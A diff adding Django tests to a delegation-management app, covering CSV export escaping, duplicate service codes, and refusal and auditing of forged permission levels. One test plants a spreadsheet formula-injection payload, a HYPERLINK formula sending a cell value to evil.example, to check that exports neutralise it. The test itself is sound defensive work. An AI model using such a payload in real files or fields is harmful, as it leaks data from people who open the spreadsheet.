@@ -148,3 +148,41 @@ def test_bulk_delegation_previews_then_grants(client, titular, bob):
     assert not Habilitation.objects.filter(subscriber=bob).exists()
     client.post("/espace/delegataires/deleguer/", {**form, "confirm": "1"})
     assert Habilitation.objects.filter(subscriber=bob).count() == 3
+
+
+def test_the_csv_never_carries_a_formula(client, company, titular):
+    from accounts.tests.factories import SubscriberFactory
+
+    mallory = SubscriberFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"x")')
+    designate(titular, company, mallory, [Designation("declarer_tva", Role.ACTOR)])
+    client.force_login(titular)
+    text = client.get(f"/espace/dossiers/{company.identifier}/acces/?format=csv").content.decode()
+    assert ";=HYPERLINK" not in text and ';"=HYPERLINK' not in text
+    assert "'=HYPERLINK" in text
+
+
+def test_bulk_delegation_with_a_repeated_service_does_not_crash(client, titular, bob, company):
+    client.force_login(titular)
+    form = {
+        "number": bob.subscriber_number,
+        "role": "AC",
+        "codes": ["declarer_tva", "declarer_tva"],
+        "query": "",
+        "confirm": "1",
+    }
+    assert client.post("/espace/delegataires/deleguer/", form).status_code == 302
+    assert Habilitation.objects.filter(subscriber=bob).count() == 1
+
+
+def test_a_forged_level_beyond_ones_rights_is_refused_and_audited(
+    client, company, titular, bob, carol
+):
+    designate(titular, company, bob, [Designation("declarer_tva", Role.DELEGATING_ACTOR)])
+    client.force_login(bob)
+    url = (
+        f"/espace/dossiers/{company.identifier}/delegations/delegataire/{carol.subscriber_number}/"
+    )
+    assert client.post(url, {"level-declarer_tva": "AD"}).status_code == 403
+    assert client.post(url, {"level-declarer_is": "AC"}).status_code == 403
+    assert AuditEvent.objects.filter(action=AuditAction.ACCESS_REFUSED, actor=bob).count() == 2
+    assert not Habilitation.objects.filter(subscriber=carol).exists()
